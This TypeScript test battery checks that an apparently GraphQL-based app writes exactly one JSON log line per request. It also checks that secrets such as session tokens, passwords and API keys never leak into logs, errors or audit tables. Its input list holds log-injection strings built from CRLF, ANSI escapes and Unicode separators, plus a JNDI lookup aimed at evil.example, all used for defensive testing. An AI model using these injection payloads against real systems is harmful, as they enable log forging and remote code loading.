// S22: one request is one line of JSON, whatever it carries, and no secret or personal datum stands in logs, errors or audit.
import { PASSWORD } from '@ky-cuong/api/testing/give-account.js';
import { openLogged } from '@ky-cuong/api/testing/logged-app.js';
import type { Battery, Round, Tally } from '../battery.ts';
import { documentOf } from './documents.ts';
import { below, chanceOf } from './figures.ts';
import { type Answered, type Asked, serve, type Served } from './served.ts';
import { setStage, type Stage } from './stage.ts';

const FORGED = '{"level":60,"msg":"FORGED-LINE"}';
const NASTY: readonly string[] = [
  `a\r\n${FORGED}`,
  `a\n${FORGED}\n`,
  `a\u2028${FORGED}\u2029`,
  `a\u0085${FORGED}`,
  '\u001b[31mFORGED-LINE\u001b[0m',
  '\u001b]0;FORGED-LINE\u0007',
  `"}\n${FORGED}`,
  '\\r\\n FORGED-LINE',
  '%0d%0aFORGED-LINE',
  '\u202eFORGED-LINE',
  '${jndi:ldap://evil.example/FORGED-LINE}',
  `${'x'.repeat(100_000)}FORGED-LINE`,
  '\u0000FORGED-LINE',
  '\ud800FORGED-LINE',
];

interface Canaries {
  readonly email: string;
  readonly phone: string;
  readonly password: string;
  readonly session: string;
  readonly key: string;
  readonly invitation: string;
}

type Shape = (nasty: string, canaries: Canaries) => Asked;

const json = (query: string, variables: object, headers: Record<string, string> = {}): Asked => ({
  headers: { 'content-type': 'application/json', ...headers },
  body: JSON.stringify({ query, variables }),
});

const header = (text: string) => encodeURIComponent(text.slice(0, 500).toWellFormed()).replace(/%(0D|0A|00)/gi, ' ');

/** Every way by which a stranger's words come in, with a secret beside them. */
const shapes: readonly Shape[] = [
  (nasty, { email }) => json(documentOf('signIn'), { input: { identifier: email, password: nasty } }),
  (nasty, { password }) => json(documentOf('signIn'), { input: { identifier: nasty, password } }),
  (nasty, { invitation }) =>
    json(documentOf('acceptInvitation'), { input: { token: `${invitation}${nasty}`, password: nasty } }),
  (nasty, { session }) =>
    json(
      'query ($s: PeopleFilter) { people(filter: $s) { edges { cursor } } }',
      { s: { search: nasty } },
      { cookie: `kc_session=${session}` },
    ),
  (nasty, { session, phone }) =>
    json('query ($id: ID!) { node(id: $id) { id } }', { id: `${phone}${nasty}` }, { cookie: `kc_session=${session}` }),
  (nasty, { key }) => json('{ province { name } }', { nasty }, { authorization: `Bearer ${key}` }),
  (nasty, { key }) => json('{ province { name } }', {}, { authorization: `Bearer ${key}${header(nasty)}` }),
  (nasty, { session }) =>
    json('{ me { email } }', {}, { cookie: `kc_session=${session}`, 'user-agent': header(nasty) }),
  (nasty, { email }) => ({
    method: 'GET',
    path: `/${encodeURIComponent(nasty.slice(0, 500).toWellFormed())}?e=${email}`,
  }),
  (nasty, { invitation }) => ({
    method: 'GET',
    path: `/loi-moi/${invitation}?x=${encodeURIComponent(nasty.slice(0, 500).toWellFormed())}`,
  }),
  (nasty, { session }) => ({
    path: '/files',
    headers: { cookie: `kc_session=${session}`, 'x-kc-request': '1', 'x-file-name': header(nasty) },
    body: nasty,
  }),
  (nasty, { password }) => ({
    headers: { 'content-type': 'application/json' },
    body: `{"query": "${password} ${nasty}`,
  }),
  (nasty, { email }) => json(`query { ${JSON.stringify(email)} ${nasty} }`, {}),
  (nasty) => json(`query Nasty { __typename }`, { operationName: nasty }, { 'x-forwarded-for': header(nasty) }),
];

interface Tried {
  readonly stage: Stage;
  readonly served: Served;
  readonly lines: readonly string[];
  readonly tally: Tally;
  readonly canaries: Canaries;
}

const found = (text: string, canaries: Canaries) =>
  Object.entries(canaries)
    .filter(([, secret]) => text.includes(secret))
    .map(([name]) => name);

/** What is sent back is not looked through: a person may be shown his own address. Errors are. */
const errorsOf = ({ body, text, status }: Answered): string => (status >= 400 || body?.errors ? text : '');

async function requests({ served, lines, tally, canaries }: Tried, count: number, chance: () => number): Promise<void> {
  const before = lines.length;
  for (let number = 0; number < count; number += 1) {
    const shape = shapes[number % shapes.length] ?? shapes[0];
    const nasty = NASTY[below(chance, NASTY.length)] ?? '';
    if (!shape) continue;
    const answer = await served.ask(shape(nasty, canaries));
    tally.check(answer.status < 500, () => `shape ${number % shapes.length}: ${answer.status}`);
    const shown = found(errorsOf(answer), canaries);
    tally.check(shown.length === 0, () => `an error shows ${shown.join(', ')}: ${answer.text.slice(0, 200)}`);
  }
  await settled(lines, before + count);
  const written = lines.slice(before);
  tally.count('requests', count);
  tally.count('lines', written.length);
  tally.check(written.length === count, () => `${count} requests left ${written.length} lines`);
}

/** A line is written when the answer has gone out, which may be a moment after it came in here. */
async function settled(lines: readonly string[], count: number): Promise<void> {
  for (let waited = 0; waited < 100 && lines.length < count; waited += 1) {
    await new Promise((over) => setTimeout(over, 10));
  }
}

const FIELDS = new Set([
  'level',
  'time',
  'pid',
  'hostname',
  'traceId',
  'method',
  'route',
  'operation',
  'status',
  'ms',
  'errors',
  'msg',
]);

function everyLine({ lines, tally, canaries }: Tried): void {
  for (const line of lines) {
    const parsed = JSON.parse(line) as Record<string, unknown>;
    const strange = Object.keys(parsed).filter((field) => !FIELDS.has(field) && field !== 'err' && field !== 'path');
    tally.check(strange.length === 0, () => `a line says more than it should: ${strange.join(', ')}`);
    tally.check(!/FORGED-LINE|\u001b|\u2028/.test(line), () => `a line was forged: ${line.slice(0, 200)}`);
    const secrets = found(line, canaries);
    tally.check(secrets.length === 0, () => `a line tells ${secrets.join(', ')}: ${line.slice(0, 200)}`);
  }
  tally.note('canariesInLogs', lines.filter((line) => found(line, canaries).length > 0).length);
}

/** A fault of ours is logged too, and statements carry what people sent. */
async function faults(tried: Tried): Promise<void> {
  const { stage, served, lines, tally, canaries } = tried;
  const before = lines.length;
  await stage.app.owner.query('alter table person_contacts rename to person_contacts_away');
  try {
    const input = { email: canaries.email, phone: canaries.phone };
    const answer = await served.send(
      documentOf('updateMyContact'),
      { input },
      { cookie: `kc_session=${canaries.session}` },
    );
    tally.check(
      answer.body?.errors?.[0]?.extensions.reason === 'UNEXPECTED',
      () => `no fault: ${answer.text.slice(0, 200)}`,
    );
    tally.check(found(answer.text, canaries).length === 0, () => 'a fault shows a secret');
    await settled(lines, before + 2);
    const logged = lines.slice(before).map((line) => JSON.parse(line) as { msg: string; err?: object });
    tally.check(
      logged.some(({ err }) => err !== undefined),
      () => 'a fault of ours left no line about it',
    );
    tally.check(
      logged.filter(({ msg }) => msg === 'request').length === 1,
      () => 'a fault left not one line of the request',
    );
  } finally {
    await stage.app.owner.query('alter table person_contacts_away rename to person_contacts');
  }
}

/** Where nothing of the kind may stand: deeds, and what waits to be sent; nor any secret anywhere at all. */
async function database({ stage, tally, canaries }: Tried): Promise<void> {
  const { app } = stage;
  const deeds = JSON.stringify([
    await app.owner.query('select * from audit_entries'),
    await app.owner.query('select * from outbox'),
    await app.owner.query('select * from idempotency_keys'),
    await app.owner.query('select * from sign_in_failures'),
  ]);
  tally.check(deeds.includes('account.signed_in'), () => 'the audit knows of no sign-in');
  tally.check(found(deeds, canaries).length === 0, () => `deeds tell ${found(deeds, canaries).join(', ')}`);
  const secrets = JSON.stringify([
    await app.owner.query('select * from sessions'),
    await app.owner.query('select * from accounts'),
    await app.owner.query('select * from account_identifiers'),
    await app.owner.query('select * from invitations'),
    await app.owner.query('select * from api_keys'),
    await app.owner.query('select * from known_devices'),
  ]);
  tally.check(
    found(secrets, canaries).length === 0,
    () => `a secret stands in the clear: ${found(secrets, canaries).join(', ')}`,
  );
}

async function run({ house, isLong, seed }: Round, tally: Tally): Promise<void> {
  const stage = await setStage(await house.open());
  const { app, lines } = await openLogged(stage.app);
  const served = await serve(stage.app, app.express);
  try {
    const who = await stage.withAccount('ADMIN');
    const phone = '0912987654';
    await stage.ask(who, documentOf('updateMyContact'), { input: { email: who.email, phone } });
    await served.send(documentOf('signIn'), { input: { identifier: who.email, password: PASSWORD } });
    const canaries: Canaries = {
      email: who.email,
      phone,
      password: PASSWORD,
      session: await stage.app.as(who).token(),
      key: (await stage.apiKey(who, ['PEOPLE_READ'])).secret,
      invitation: await stage.invitation(),
    };
    const tried = { stage, served, lines, tally, canaries };
    await requests(tried, isLong ? 10_000 : 280, chanceOf(seed));
    await faults(tried);
    everyLine(tried);
    await database(tried);
  } finally {
    await served.close();
    await app.close();
  }
}

export const logLines: Battery = { name: 'S22', title: 'logs: one line a request, and no secret in it', run };
